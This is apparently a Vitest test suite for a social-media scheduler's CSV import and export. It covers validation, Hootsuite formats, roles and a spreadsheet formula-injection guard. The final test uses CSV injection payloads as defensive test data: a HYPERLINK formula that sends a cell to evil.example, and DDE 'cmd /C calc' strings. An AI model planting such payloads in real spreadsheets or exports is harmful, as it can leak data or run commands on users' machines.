import { env, exports } from "cloudflare:workers";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { addAccount, addMember, call, signUp, type Workspace } from "../helpers/api";

const DAY = 86_400_000;

async function importCsv(ws: { token: string }, csv: string, query = "") {
	return call("POST", `/posts/import${query}`, { token: ws.token, body: csv, headers: { "Content-Type": "text/csv" } });
}

async function exportCsv(ws: { token: string }, query = "") {
	const res = await exports.default.fetch(new Request(`https://chorus.test/api/v1/posts.csv${query}`, { headers: { Authorization: `Bearer ${ws.token}` } }));
	return { status: res.status, type: res.headers.get("Content-Type"), text: await res.text() };
}

const countPosts = async (ws: Workspace) =>
	(await env.DB.prepare("SELECT COUNT(*) AS n FROM post WHERE workspace_id = ?").bind(ws.id).first<{ n: number }>())!.n;

/** The calendar as a comparable list: account handle, body, link, time and status, in order. */
async function calendarOf(ws: Workspace) {
	const accounts = new Map<string, string>(
		(await call("GET", "/accounts", { token: ws.token })).body.items.map((a: { id: string; handle: string }) => [a.id, a.handle]),
	);
	const posts = (await call("GET", "/posts?limit=500", { token: ws.token })).body.items;
	return posts.map((p: { accountId: string; body: string; link: string | null; scheduledAt: string | null; status: string }) => ({
		account: accounts.get(p.accountId),
		body: p.body,
		link: p.link,
		at: p.scheduledAt === null ? null : Date.parse(p.scheduledAt),
		status: p.status,
	}));
}

const iso = (ms: number) => new Date(ms).toISOString();

describe("spreadsheet planning", () => {
	it("round trip: export → import into another workspace produces the same calendar", async () => {
		const a = await signUp();
		const handles = ["@hq", "@berlin"];
		const accs = [];
		for (const handle of handles) accs.push(await addAccount(a, { handle }));
		const base = Math.ceil((Date.now() + 2 * DAY) / 60_000) * 60_000;
		const bodies = [
			"=1+1 is not a formula here",
			'Our spring release is out, with notes, "quotes" and, commas',
			"Ask us anything on Friday\nat the community call",
			"Workshop tickets: see the link",
		];
		for (const [i, body] of bodies.entries()) {
			const res = await call("POST", "/posts", {
				token: a.token,
				json: { accountId: accs[i % 2]!.id, body, link: i === 3 ? "https://example.com/tickets" : undefined, scheduledAt: iso(base + i * 3 * 3_600_000) },
			});
			expect(res.status).toBe(201);
		}
		await call("POST", "/posts", { token: a.token, json: { accountId: accs[0]!.id, body: "An idea for later" } });

		const csv = await exportCsv(a);
		expect(csv.status).toBe(200);
		expect(csv.type).toBe("text/csv; charset=utf-8");
		expect(csv.text.split("\r\n")[0]).toBe("account,body,link,scheduledAt,status,id,accountId,publishedAt,networkUrl");
		// Cells a spreadsheet would run as formulas are defused ("'@hq"), and read back as written.
		expect(csv.text).toContain(`"'@hq","'=1+1 is not a formula here"`);

		const b = await signUp();
		for (const handle of handles) await addAccount(b, { handle });
		const imported = await importCsv(b, csv.text);
		expect(imported.status, JSON.stringify(imported.body)).toBe(201);
		expect(imported.body).toMatchObject({ format: "chorus", imported: 5 });
		expect(await calendarOf(b)).toEqual(await calendarOf(a));
		// Importing the same file again is refused whole: every scheduled row is a double post now.
		const again = await importCsv(b, csv.text);
		expect(again.status).toBe(422);
		expect(again.body.error.details.rows.filter((r: { errors: unknown[] }) => r.errors.length)).toHaveLength(4);
		expect(await countPosts(b)).toBe(5);
	});

	it("one bad row changes nothing, and the report names the row and the field", async () => {
		const ws = await signUp();
		const acc = await addAccount(ws, { handle: "@desk" });
		const at = (d: number) => iso(Date.now() + d * DAY);
		const csv = [
			"account,body,link,scheduledAt,status",
			`@desk,First post,,${at(1)},scheduled`,
			`@desk,Second post,https://example.com,${at(2)},`,
			`@desk,Third post,,tomorrow at nine,scheduled`,
			`@desk,Just a draft,,,draft`,
		].join("\n");
		const res = await importCsv(ws, csv);
		expect(res.status).toBe(422);
		expect(res.body.error.code).toBe("import_failed");
		expect(res.body.error.message).toMatch(/line 4, scheduledAt/);
		expect(res.body.error.issues).toEqual([{ path: ["rows", 4, "scheduledAt"], message: expect.stringMatching(/ISO-8601/) }]);
		const rows = res.body.error.details.rows;
		expect(rows.map((r: { line: number; errors: unknown[] }) => [r.line, r.errors.length])).toEqual([
			[2, 0],
			[3, 0],
			[4, 1],
			[5, 0],
		]);
		expect(await countPosts(ws)).toBe(0);
		// Nothing reserved either: the good rows import once the bad one is fixed.
		const fixed = csv.replace("tomorrow at nine", at(3));
		expect((await importCsv(ws, fixed)).status).toBe(201);
		expect(await countPosts(ws)).toBe(4);
		expect(acc.handle).toBe("@desk");
	});

	it("applies the API's rules per row: network length, mission, duplicates within the file, unknown accounts, the past", async () => {
		const ws = await signUp();
		await addAccount(ws, { handle: "@xacct" });
		await call("PUT", "/mission", {
			token: ws.token,
			json: { purpose: "p", audience: "a", topics: [], voice: "v", bannedPhrases: ["synergy"], allowedLinkDomains: [], maxBroadcastShare: 1 },
		});
		const at = (h: number) => iso(Date.now() + h * 3_600_000);
		const csv = [
			"account,body,scheduledAt",
			`@xacct,${"x".repeat(600)},${at(5)}`,
			`@xacct,Unlock synergy today,${at(6)}`,
			`@nobody,Hello,${at(7)}`,
			`@xacct,Hello from the past,${iso(Date.now() - DAY)}`,
		].join("\n");
		const res = await importCsv(ws, csv);
		expect(res.status).toBe(422);
		const byLine = new Map(res.body.error.details.rows.map((r: { line: number; errors: { field: string }[] }) => [r.line, r.errors.map((e) => e.field)]));
		expect(byLine.get(2)).toEqual(["body"]); // over the sandbox network's 500 characters
		expect(byLine.get(3)).toEqual(["body"]); // banned phrase (mission)
		expect(byLine.get(4)).toEqual(["account"]);
		expect(byLine.get(5)).toEqual(["scheduledAt"]);

		const dup = ["account,body,scheduledAt", `@xacct,The same announcement text,${at(10)}`, `@xacct,The same announcement text!,${at(11)}`].join("\n");
		const dupRes = await importCsv(ws, dup);
		expect(dupRes.status).toBe(422);
		expect(dupRes.body.error.issues.map((i: { path: unknown[] }) => i.path)).toContainEqual(["rows", 3, "body"]);
		expect(await countPosts(ws)).toBe(0);
	});

	it("reads Hootsuite's bulk-composer columns, with or without a header, in the account's zone", async () => {
		const ws = await signUp();
		const acc = await addAccount(ws, { handle: "@tokyo", timezone: "Asia/Tokyo" });
		const year = new Date().getUTCFullYear() + 1;
		const noHeader = `03/04/${year} 09:30,"Cherry blossom update, day one",https://example.com/sakura\n03/05/${year} 18:00,Day two,\n`;
		expect((await importCsv(ws, noHeader)).body.error.issues[0].path).toEqual(["accountId"]);
		const res = await importCsv(ws, noHeader, `?accountId=${acc.id}`);
		expect(res.status, JSON.stringify(res.body)).toBe(201);
		expect(res.body).toMatchObject({ format: "hootsuite", imported: 2 });
		expect(res.body.rows[0]).toMatchObject({ line: 1, scheduledAt: `${year}-03-04T09:30:00+09:00`, status: "scheduled" });
		const posts = (await call("GET", "/posts", { token: ws.token })).body.items;
		expect(posts[0]).toMatchObject({ body: "Cherry blossom update, day one", link: "https://example.com/sakura" });

		const dayFirst = `Date/Time,Message,Link\n04/03/${year} 10:00,Day first,\n31/02/${year} 10:00,No such day,\n`;
		const bad = await importCsv(ws, dayFirst, `?accountId=${acc.id}&dateOrder=dmy`);
		expect(bad.status).toBe(422);
		expect(bad.body.error.issues).toEqual([{ path: ["rows", 3, "date/time"], message: expect.stringContaining("31/02") }]);
	});

	it("an author's rows wait for approval (duty), a dry run saves nothing, and limits are enforced", async () => {
		const ws = await signUp();
		await addAccount(ws, { handle: "@desk" });
		const author = await addMember(ws, "author");
		const csv = `account,body,scheduledAt\n@desk,Author post,${iso(Date.now() + DAY)}\n`;
		const dry = await importCsv(author, csv, "?dryRun=true");
		expect(dry.status).toBe(200);
		expect(dry.body).toMatchObject({ dryRun: true, imported: 0, rows: [{ ok: true, status: "pending_approval", postId: null }] });
		expect(await countPosts(ws)).toBe(0);
		const real = await importCsv(author, csv);
		expect(real.body.rows[0].status).toBe("pending_approval");

		const analyst = await addMember(ws, "analyst");
		expect((await importCsv(analyst, csv)).status).toBe(403);
		expect((await importCsv(ws, "")).body.error.issues[0].path).toEqual(["file"]);
		expect((await importCsv(ws, "foo,bar\n1,2\n")).body.error.issues[0].path).toEqual(["file"]);
		const tooMany = `account,body\n${Array.from({ length: 5001 }, (_, i) => `@desk,Draft ${i}`).join("\n")}`;
		expect((await importCsv(ws, tooMany)).body.error.issues[0].path).toEqual(["rows"]);
	});

	it("imports 5,000 rows in one request", async () => {
		const ws = await signUp();
		const accs = [await addAccount(ws, { handle: "@one" }), await addAccount(ws, { handle: "@two" })];
		const start = Date.now() + DAY;
		const lines = Array.from(
			{ length: 5000 },
			(_, i) =>
				`${accs[i % 2]!.handle},"Post number ${i}: ${["launch", "webinar", "survey", "release", "meetup"][i % 5]} ${i * 7919}",,${iso(start + i * 3_600_000)},scheduled`,
		);
		const csv = ["account,body,link,scheduledAt,status", ...lines].join("\n");
		const t0 = performance.now();
		const res = await importCsv(ws, csv);
		const ms = performance.now() - t0;
		expect(res.status, JSON.stringify(res.body).slice(0, 500)).toBe(201);
		expect(res.body.imported).toBe(5000);
		expect(await countPosts(ws)).toBe(5000);
		console.log(`import of 5,000 rows: ${Math.round(ms)} ms`);
		const exported = await exportCsv(ws);
		expect(exported.text.trim().split("\r\n")).toHaveLength(5001);
	}, 120_000);
});

describe("spreadsheet export: the formula guard covers every cell", () => {
	it("defuses bodies that start with a newline or hide a formula behind a newline or a space, and the import reads them back", async () => {
		const a = await signUp();
		const acc = await addAccount(a, { handle: "@desk" });
		const bodies = ['=HYPERLINK("https://evil.example/?"&A1,"Click")\n', "\n=cmd|' /C calc'!A0", " @SUM(1+1)*cmd|' /C calc'!A0", "\t+1+1"];
		for (const body of bodies) expect((await call("POST", "/posts", { token: a.token, json: { accountId: acc.id, body } })).status).toBe(201);
		const csv = await exportCsv(a);
		const cells = (Papa.parse<string[]>(csv.text, { skipEmptyLines: true }).data as string[][]).slice(1).map((row) => row[1]);
		expect(cells.sort()).toEqual(bodies.map((b) => `'${b}`).sort());

		const b = await signUp();
		await addAccount(b, { handle: "@desk" });
		const imported = await importCsv(b, csv.text);
		expect(imported.status, JSON.stringify(imported.body)).toBe(201);
		const back = (await call("GET", "/posts?limit=50", { token: b.token })).body.items.map((p: { body: string }) => p.body);
		expect(back.sort()).toEqual([...bodies].sort());
	});
});
